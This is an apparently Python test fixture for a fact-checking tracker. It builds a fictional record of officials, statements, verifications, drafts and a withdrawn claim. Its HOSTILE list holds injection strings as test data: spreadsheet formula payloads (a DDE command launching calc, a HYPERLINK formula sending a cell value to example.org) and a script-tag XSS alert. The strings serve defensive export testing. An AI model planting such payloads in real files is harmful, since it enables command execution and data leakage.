"""A small record with all that can go wrong in a file: every script, hostile texts, drafts, what is withdrawn."""

from datetime import date

from tests import newsroom
from tracker.officials.models import OtherName
from tracker.verifications.publishing import withdraw
from tracker.vocabulary import CheckByBasis, Finding, Form, Kind, Stance, VoiceRole

ARABIC = "قال «لن يبقى فيل واحد»، ثم سكت\u200f."
CYRILLIC = "Ни одного слона не останется в Стрельсау — слово офицера; ёлка."
HOSTILE = [
    '=HYPERLINK("https://example.org/?x="&A1,"click")',
    "+1-800-ELEPHANT",
    "-2+3",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "'=1",
    'He said: "one;=1", then\n=2, then\n\n-3',
    "<script>alert('elephant')</script> ]]> &amp; _x0041_ %0d%0a \\n \\; \\",
    "BEGIN:VEVENT\nSUMMARY:x\nEND:VEVENT",
    "🐘 e\u0301 \u200d\u200c ﷽ 象",
]


def make_record():
    """Two countries, three officials, all kinds and statuses, and what must never be seen."""
    newsroom.editor(), newsroom.checker()
    minister = newsroom.make_official("Rudolf Rassendyll", wikidata_id="Q42424242")
    OtherName.objects.create(official=minister, name="Рудольф Рассендилл", language="ru")
    ministry = newsroom.make_official("Ministry of Elephants", code=None, kind="institution")
    rupert = newsroom.make_official("Rupert of Hentzau", code="LU")
    tenure = newsroom.make_tenure(minister, "Minister of Elephants", "2020", ended_on="2024-03-20")
    elephants, parades = newsroom.make_topic("Elephants"), newsroom.make_topic("Парады; and =more")
    agency = newsroom.make_origin("Ruritanian Press Agency")
    days = {"check_by": "2024-04", "check_by_basis": CheckByBasis.EXPLICIT}

    broken = newsroom.make_published_statement(
        speaker=minister,
        tenure=tenure,
        topics=[elephants, parades],
        concerns=["FR", "DE"],
        voices=[(ministry, VoiceRole.SPOKEN_FOR), (rupert, VoiceRole.SIGNED)],
        source=newsroom.make_source(origins=[agency], title="“No elephants”, =says minister"),
        **days,
    )
    entry = newsroom.make_verification(broken, public_on=date(2024, 4, 2), evidence=[])
    newsroom.make_evidence(entry, Stance.AGAINST, happened_on=date(2024, 4, 1))
    newsroom.publish_verification(entry, by=newsroom.editor())
    newsroom.make_published_verification(broken, Finding.TERMS_CHANGED, public_on=date(2024, 3, 10))

    newsroom.make_published_statement(speaker=rupert, kind=Kind.PREDICTION, topics=[parades], said_on="2023", **days)
    newsroom.make_published_statement(speaker=minister, kind=Kind.POSITION, said_on="2024-W07")
    newsroom.make_published_statement(
        speaker=ministry,
        kind=Kind.DENIAL,
        form=Form.PARAPHRASE,
        appearance={"basis": "relayed", "relayed_by": agency},
        said_on="2022-02-14/2022-02-16",
    )
    for place, text in enumerate([ARABIC, CYRILLIC, *HOSTILE]):
        newsroom.make_published_statement(
            speaker=[minister, rupert][place % 2],
            kind=[Kind.ASSERTION, Kind.DENIAL][place % 2],
            quote=text,
            claim=text,
            occasion=" ".join(text.split()),
            check_by="2030-01-01" if place % 3 == 0 else None,
            check_by_basis=CheckByBasis.EDITORS if place % 3 == 0 else "",
            topics=[elephants] if place % 2 else [],
        )
    _make_what_nobody_may_see(minister, broken)
    return broken


SECRETS = ("Hush elephant", "Hush Official", "Hush Topic", "Hush Courier", "Hush Agency", "Hush Minister")


def _make_what_nobody_may_see(minister, published):
    """Drafts with all their parts, and a statement taken back."""
    hidden = newsroom.make_official("Hush Official", code="AD")
    newsroom.make_tenure(hidden, "Hush Minister")
    source = newsroom.make_source(
        publisher=newsroom.make_publisher("Hush Courier"), origins=[newsroom.make_origin("Hush Agency")]
    )
    draft = newsroom.make_statement(speaker=hidden, source=source, quote="Hush elephant", claim="Hush elephant")
    draft.topics.add(newsroom.make_topic("Hush Topic"))
    newsroom.make_verification(published, Finding.NO_CHANGE, summary="Hush elephant", evidence=[Stance.CONTEXT])
    wrong = newsroom.make_published_statement(speaker=minister, quote="Hush elephant", claim="Hush elephant")
    withdraw(wrong, newsroom.editor(), "He never said it.")
